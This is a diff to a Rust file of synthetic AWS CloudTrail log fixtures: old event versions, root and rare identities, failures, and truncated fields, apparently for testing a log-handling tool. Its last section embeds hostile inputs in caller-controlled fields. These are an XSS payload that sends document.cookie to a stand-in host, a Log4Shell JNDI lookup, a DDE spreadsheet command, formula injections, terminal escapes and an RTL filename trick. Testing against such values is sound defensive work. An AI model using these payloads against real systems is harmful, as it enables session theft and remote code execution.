@@ -1,16 +1,16 @@
-//! Records whose shape is the point: old versions, rare identities, and what attackers write.
+//! Records with unusual shapes: old versions, rare identities, and hostile values.
 //!
-//! They are written out in full. `$now`, `$uuid` and the like are filled as everywhere else.
+//! They are written out in full, as templates with holes such as `$now` and `$uuid`.
 
 use super::calendar::at;
 use super::organisation::{DEVELOPMENT, MANAGEMENT, PRODUCTION, SANDBOX, SECURITY, STAGING};
 
-/// One such record.
+/// A record with an unusual shape.
 pub(super) struct Oddity {
     pub(super) account: usize,
     pub(super) region: &'static str,
     pub(super) time: u32,
-    /// Whether it belongs to the imported archive, which has a key layout of its own.
+    /// Whether it belongs to the imported archive, which has its own key layout.
     pub(super) imported: bool,
     text: &'static str,
 }
@@ -25,7 +25,7 @@ const fn odd(account: usize, region: &'static str, time: u32, text: &'static str
     }
 }
 
-/// A record of an old version, replayed by whoever imported the archive.
+/// A record of an old version, in the imported archive.
 const fn old(minute: u32, text: &'static str) -> Oddity {
     Oddity {
         account: MANAGEMENT,
@@ -36,7 +36,7 @@ const fn old(minute: u32, text: &'static str) -> Oddity {
     }
 }
 
-/// The whole record. A bar at the end stands for the usual end of a record.
+/// The template of the record. A trailing `|` is replaced by [`USUAL`].
 pub(super) fn text(oddity: &Oddity) -> String {
     let text = oddity.text.replace("$LONG_AGENT", &long_agent());
     match text.strip_suffix('|') {
@@ -47,7 +47,7 @@ pub(super) fn text(oddity: &Oddity) -> String {
 
 const USUAL: &str = r#","requestID":"$request","eventID":"$uuid","readOnly":true,"eventType":"AwsApiCall","managementEvent":true,"recipientAccountId":"$account","eventCategory":"Management"}"#;
 
-/// CloudTrail cuts user agents at one kilobyte, wherever that falls.
+/// A user agent cut at 1 KiB, as CloudTrail does, in the middle of a word.
 fn long_agent() -> String {
     let mut agent = "crawler/1.0 (+https://crawler.example.com/about; ".to_owned();
     while agent.len() < 1024 {
@@ -62,7 +62,7 @@ const EU: &str = "eu-central-1";
 
 #[rustfmt::skip] // One record, one row.
 pub(super) const ALL: &[Oddity] = &[
-    // The imported archive: every version before today's, the first without eventID.
+    // The imported archive: versions 1.0 to 1.07. Version 1.0 has no eventID.
     old(0, r#"{"eventVersion":"1.0","userIdentity":{"type":"IAMUser","principalId":"AIDAOLDHAND000EXAMPLE","arn":"arn:aws:iam::111122223333:user/old-hand","accountId":"111122223333","accessKeyId":"AKIAOLDHAND00EXAMPLE","userName":"old-hand"},"eventTime":"$now","eventSource":"ec2.amazonaws.com","eventName":"StartInstances","awsRegion":"$region","sourceIPAddress":"198.51.100.77","userAgent":"archive-import/1.0 (ec2-api-tools 1.6.12.2)","requestParameters":{"instancesSet":{"items":[{"instanceId":"i-0ldexamp"}]}},"responseElements":{"instancesSet":{"items":[{"instanceId":"i-0ldexamp","currentState":{"code":0,"name":"pending"},"previousState":{"code":80,"name":"stopped"}}]}}}"#),
     old(1, r#"{"eventVersion":"1.0","userIdentity":{"type":"IAMUser","principalId":"AIDAOLDHAND000EXAMPLE","arn":"arn:aws:iam::111122223333:user/old-hand","accountId":"111122223333","accessKeyId":"AKIAOLDHAND00EXAMPLE","userName":"old-hand"},"eventTime":"$now","eventSource":"iam.amazonaws.com","eventName":"AddUserToGroup","awsRegion":"$region","sourceIPAddress":"198.51.100.77","userAgent":"archive-import/1.0 (AWSConsole)","requestParameters":{"userName":"new-hand","groupName":"operators"},"responseElements":null}"#),
     old(2, r#"{"eventVersion":"1.01","userIdentity":{"type":"IAMUser","principalId":"AIDAOLDHAND000EXAMPLE","arn":"arn:aws:iam::111122223333:user/old-hand","accountId":"111122223333","accessKeyId":"AKIAOLDHAND00EXAMPLE","userName":"old-hand"},"eventTime":"$now","eventSource":"iam.amazonaws.com","eventName":"CreateGroup","awsRegion":"$region","sourceIPAddress":"198.51.100.77","userAgent":"archive-import/1.0 (aws-cli/1.4.4)","requestParameters":{"groupName":"operators"},"responseElements":{"group":{"groupName":"operators","path":"/"}},"requestID":"$request","eventID":"$uuid"}"#),
@@ -73,13 +73,13 @@ pub(super) const ALL: &[Oddity] = &[
     old(7, r#"{"eventVersion":"1.06","userIdentity":{"type":"IAMUser","principalId":"AIDAOLDHAND000EXAMPLE","arn":"arn:aws:iam::111122223333:user/old-hand","accountId":"111122223333","accessKeyId":"AKIAOLDHAND00EXAMPLE","userName":"old-hand"},"eventTime":"$now","eventSource":"ec2.amazonaws.com","eventName":"DescribeInstances","awsRegion":"$region","sourceIPAddress":"198.51.100.77","userAgent":"archive-import/1.0 (Boto3/1.9.71)","requestParameters":{"maxResults":1000},"responseElements":null,"requestID":"$request","eventID":"$uuid","readOnly":true,"eventType":"AwsApiCall","managementEvent":true,"recipientAccountId":"111122223333"}"#),
     old(8, r#"{"eventVersion":"1.07","userIdentity":{"type":"IAMUser","principalId":"AIDAOLDHAND000EXAMPLE","arn":"arn:aws:iam::111122223333:user/old-hand","accountId":"111122223333","accessKeyId":"AKIAOLDHAND00EXAMPLE","userName":"old-hand"},"eventTime":"$now","eventSource":"dynamodb.amazonaws.com","eventName":"ListTables","awsRegion":"$region","sourceIPAddress":"198.51.100.77","userAgent":"archive-import/1.0 (Boto3/1.15.2)","requestParameters":null,"responseElements":null,"requestID":"$request","eventID":"$uuid","readOnly":true,"eventType":"AwsApiCall","apiVersion":"2012-08-10","managementEvent":true,"recipientAccountId":"111122223333","eventCategory":"Management"}"#),
 
-    // The root user, by password and by AssumeRoot, which is not the same thing.
+    // The root user, by password and by AssumeRoot.
     odd(MANAGEMENT, US, at(8, 9, 2, 17), r#"{"eventVersion":"1.08","userIdentity":{"type":"Root","principalId":"111122223333","arn":"arn:aws:iam::111122223333:root","accountId":"111122223333","accessKeyId":""},"eventTime":"$now","eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","awsRegion":"$region","sourceIPAddress":"198.51.100.17","userAgent":"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:142.0) Gecko/20100101 Firefox/142.0","requestParameters":null,"responseElements":{"ConsoleLogin":"Success"},"additionalEventData":{"LoginTo":"https://console.aws.amazon.com/billing/home","MobileVersion":"No","MFAIdentifier":"arn:aws:iam::111122223333:mfa/root-account-mfa-device","MFAUsed":"Yes"},"eventID":"$uuid","readOnly":false,"eventType":"AwsConsoleSignIn","managementEvent":true,"recipientAccountId":"$account","eventCategory":"Management","tlsDetails":{"tlsVersion":"TLSv1.3","cipherSuite":"TLS_AES_128_GCM_SHA256","clientProvidedHostHeader":"signin.aws.amazon.com"}}"#),
     odd(MANAGEMENT, US, at(8, 9, 4, 40), r#"{"eventVersion":"1.09","userIdentity":{"type":"Root","principalId":"111122223333","arn":"arn:aws:iam::111122223333:root","accountId":"111122223333","accessKeyId":"ASIA$d9EXAMPLE","sessionContext":{"attributes":{"creationDate":"2026-09-08T09:02:17Z","mfaAuthenticated":"true"}}},"eventTime":"$now","eventSource":"account.amazonaws.com","eventName":"GetAlternateContact","awsRegion":"$region","sourceIPAddress":"198.51.100.17","userAgent":"AWS Internal","requestParameters":{"alternateContactType":"SECURITY"},"responseElements":null,"requestID":"$request","eventID":"$uuid","readOnly":true,"eventType":"AwsApiCall","managementEvent":true,"recipientAccountId":"$account","eventCategory":"Management","sessionCredentialFromConsole":"true"}"#),
     odd(SANDBOX, EU, at(15, 10, 12, 5), r#"{"eventVersion":"1.11","userIdentity":{"type":"Root","principalId":"012345678901","arn":"arn:aws:iam::012345678901:root","accountId":"012345678901","accessKeyId":"ASIA$d9EXAMPLE","sessionContext":{"assumedRoot":"true","attributes":{"creationDate":"2026-09-15T10:10:44Z","mfaAuthenticated":"false"}}},"eventTime":"$now","eventSource":"s3.amazonaws.com","eventName":"DeleteBucketPolicy","awsRegion":"$region","sourceIPAddress":"198.51.100.17","userAgent":"[aws-cli/2.27.49 md/command#s3api.delete-bucket-policy]","requestParameters":{"bucketName":"example-scratch-locked","policy":"","Host":"example-scratch-locked.s3.eu-central-1.amazonaws.com"},"responseElements":null,"requestID":"$h16","eventID":"$uuid","readOnly":false,"eventType":"AwsApiCall","managementEvent":true,"recipientAccountId":"$account","eventCategory":"Management"}"#),
     odd(MANAGEMENT, EU, at(15, 10, 10, 44), r#"{"eventVersion":"1.11","userIdentity":{"type":"AssumedRole","principalId":"AROASSOADMIN0EXAMPLE:ines.duarte@example.com","arn":"arn:aws:sts::111122223333:assumed-role/AWSReservedSSO_SecurityAudit_0f1e2d3c4b5a6978/ines.duarte@example.com","accountId":"111122223333","accessKeyId":"ASIA$d9EXAMPLE","sessionContext":{"sessionIssuer":{"type":"Role","principalId":"AROASSOADMIN0EXAMPLE","arn":"arn:aws:iam::111122223333:role/aws-reserved/sso.amazonaws.com/eu-central-1/AWSReservedSSO_SecurityAudit_0f1e2d3c4b5a6978","accountId":"111122223333","userName":"AWSReservedSSO_SecurityAudit_0f1e2d3c4b5a6978"},"attributes":{"creationDate":"2026-09-15T07:00:03Z","mfaAuthenticated":"false"}}},"eventTime":"$now","eventSource":"sts.amazonaws.com","eventName":"AssumeRoot","awsRegion":"$region","sourceIPAddress":"198.51.100.17","userAgent":"aws-cli/2.27.49 md/command#sts.assume-root","requestParameters":{"targetPrincipal":"012345678901","taskPolicyArn":{"arn":"arn:aws:iam::aws:policy/root-task/S3UnlockBucketPolicy"}},"responseElements":{"credentials":{"accessKeyId":"ASIA$d9EXAMPLE","sessionToken":"$t200==","expiration":"Sep 15, 2026, 10:25:44 AM"}},"requestID":"$request","eventID":"$uuid","readOnly":true,"eventType":"AwsApiCall","managementEvent":true,"recipientAccountId":"$account","eventCategory":"Management"}"#),
 
-    // Identities seldom seen.
+    // Rare identities.
     odd(STAGING, EU, at(9, 8, 30, 9), r#"{"eventVersion":"1.09","userIdentity":{"type":"Directory","arn":"arn:aws:ds:eu-central-1:555566667777:user/d-9367example/f3a1c9d2-0000-4000-8000-00000000d1a2","accountId":"555566667777","userName":"petra.novak"},"eventTime":"$now","eventSource":"workdocs.amazonaws.com","eventName":"GetCurrentUser","awsRegion":"$region","sourceIPAddress":"192.0.2.131","userAgent":"WorkDocs/1.2","requestParameters":{"authenticationToken":"HIDDEN_DUE_TO_SECURITY_REASONS"},"responseElements":null|"#),
     odd(MANAGEMENT, EU, at(9, 8, 44, 50), r#"{"eventVersion":"1.08","userIdentity":{"type":"Unknown","principalId":"906755d2-5011-70ab-cd12-0000000000a7","accountId":"111122223333","userName":"grace.okafor@example.com"},"eventTime":"$now","eventSource":"sso.amazonaws.com","eventName":"ListAccounts","awsRegion":"$region","sourceIPAddress":"198.51.100.201","userAgent":"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 Chrome/139.0.0.0","requestParameters":null,"responseElements":null|"#),
     odd(PRODUCTION, EU, at(10, 11, 0, 3), r#"{"eventVersion":"1.08","userIdentity":{"type":"Role","principalId":"AROACUSTODIAN0EXAMPLE","arn":"arn:aws:iam::444455556666:role/service-role/custodian","accountId":"444455556666","userName":"custodian"},"eventTime":"$now","eventSource":"config.amazonaws.com","eventName":"DescribeComplianceByConfigRule","awsRegion":"$region","sourceIPAddress":"AWS Internal","userAgent":"AWS Internal","requestParameters":null,"responseElements":null|"#),
@@ -96,12 +96,12 @@ pub(super) const ALL: &[Oddity] = &[
 
     odd(MANAGEMENT, US, at(16, 12, 30, 0), r#"{"eventVersion":"1.08","userIdentity":{"type":"IAMUser","principalId":"AIDABREAKGLAS0EXAMPLE","arn":"arn:aws:iam::111122223333:user/break-glass-1","accountId":"111122223333","accessKeyId":"","userName":"break-glass-1"},"eventTime":"$now","eventSource":"signin.amazonaws.com","eventName":"RenewRole","awsRegion":"$region","sourceIPAddress":"198.51.100.17","userAgent":"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:142.0) Gecko/20100101 Firefox/142.0","requestParameters":null,"responseElements":{"RenewRole":"Success"},"eventID":"$uuid","readOnly":false,"eventType":"AwsConsoleAction","managementEvent":true,"recipientAccountId":"$account","eventCategory":"Management"}"#),
 
-    // What failed without a code, and answers that are no objects.
+    // Failures without an error code, and responses that are not objects.
     odd(DEVELOPMENT, EU, at(15, 13, 0, 9), r#"{"eventVersion":"1.10","userIdentity":{"type":"AWSService","invokedBy":"apigateway.amazonaws.com"},"eventTime":"$now","eventSource":"lambda.amazonaws.com","eventName":"AddPermission20150331v2","awsRegion":"$region","sourceIPAddress":"apigateway.amazonaws.com","userAgent":"apigateway.amazonaws.com","errorMessage":"The final policy size (20512) is bigger than the limit (20480).","requestParameters":{"functionName":"checkout-api"},"responseElements":null|"#),
     odd(DEVELOPMENT, EU, at(15, 13, 1, 0), r#"{"eventVersion":"1.10","userIdentity":{"type":"AWSService","invokedBy":"elasticmapreduce.amazonaws.com"},"eventTime":"$now","eventSource":"elasticmapreduce.amazonaws.com","eventName":"RunJobFlow","awsRegion":"$region","sourceIPAddress":"elasticmapreduce.amazonaws.com","userAgent":"elasticmapreduce.amazonaws.com","requestParameters":{"name":"recommender"},"responseElements":{"errorCode":"InternalFailure","errorMessage":"An error occurred while processing your request."}|"#),
     odd(DEVELOPMENT, EU, at(15, 13, 2, 0), r#"{"eventVersion":"1.10","userIdentity":{"type":"AWSService","invokedBy":"cloudformation.amazonaws.com"},"eventTime":"$now","eventSource":"iam.amazonaws.com","eventName":"GetAccountAuthorizationDetails","awsRegion":"$region","sourceIPAddress":"cloudformation.amazonaws.com","userAgent":"cloudformation.amazonaws.com","requestParameters":{"omitted":true,"originalSize":110401,"reason":"requestParameters too large"},"responseElements":"{\"truncated\":true}"|"#),
 
-    // What attackers and careless programs write into the fields they control.
+    // Hostile and malformed values in fields that callers control.
     odd(PRODUCTION, EU, at(16, 4, 4, 4), r#"{"eventVersion":"1.11","userIdentity":{"type":"IAMUser","principalId":"AIDAQHY3WKEB4UEXAMPLE","arn":"arn:aws:iam::444455556666:user/ses-smtp","accountId":"444455556666","accessKeyId":"AKIA6YUQGYRWGEXAMPLE","userName":"ses-smtp"},"eventTime":"$now","eventSource":"sts.amazonaws.com","eventName":"GetCallerIdentity","awsRegion":"$region","sourceIPAddress":"203.0.113.250","userAgent":"<script>alert('trail')</script><img src=x onerror=\"fetch('//203.0.113.250/'+document.cookie)\">","requestParameters":null,"responseElements":null|"#),
     odd(PRODUCTION, EU, at(16, 4, 4, 9), r#"{"eventVersion":"1.11","userIdentity":{"type":"IAMUser","principalId":"AIDAQHY3WKEB4UEXAMPLE","arn":"arn:aws:iam::444455556666:user/ses-smtp","accountId":"444455556666","accessKeyId":"AKIA6YUQGYRWGEXAMPLE","userName":"ses-smtp"},"eventTime":"$now","eventSource":"sts.amazonaws.com","eventName":"GetCallerIdentity","awsRegion":"$region","sourceIPAddress":"203.0.113.250","userAgent":"=cmd|' /C calc'!A0,\"quoted\",${jndi:ldap://203.0.113.250/a}\n\u001b[31mred\u001b[0m\u0007 Ænglisc 日本語 \u202egnp.exe","requestParameters":null,"responseElements":null|"#),
     odd(SANDBOX, EU, at(16, 4, 5, 0), r#"{"eventVersion":"1.11","userIdentity":{"type":"AssumedRole","principalId":"AROASANDBOX00EXAMPLE:=2+5@example.com","arn":"arn:aws:sts::012345678901:assumed-role/playground/=2+5@example.com","accountId":"012345678901","accessKeyId":"ASIA$d9EXAMPLE","sessionContext":{"sessionIssuer":{"type":"Role","principalId":"AROASANDBOX00EXAMPLE","arn":"arn:aws:iam::012345678901:role/deep/path/playground","accountId":"012345678901","userName":"playground"},"attributes":{"creationDate":"2026-09-16T04:00:00Z","mfaAuthenticated":"false"},"sourceIdentity":"=HYPERLINK(example)"}},"eventTime":"$now","eventSource":"sts.amazonaws.com","eventName":"GetCallerIdentity","awsRegion":"$region","sourceIPAddress":"2001:db8:bad::1","userAgent":"@SUM(1+1)*cmd","requestParameters":null,"responseElements":null|"#),
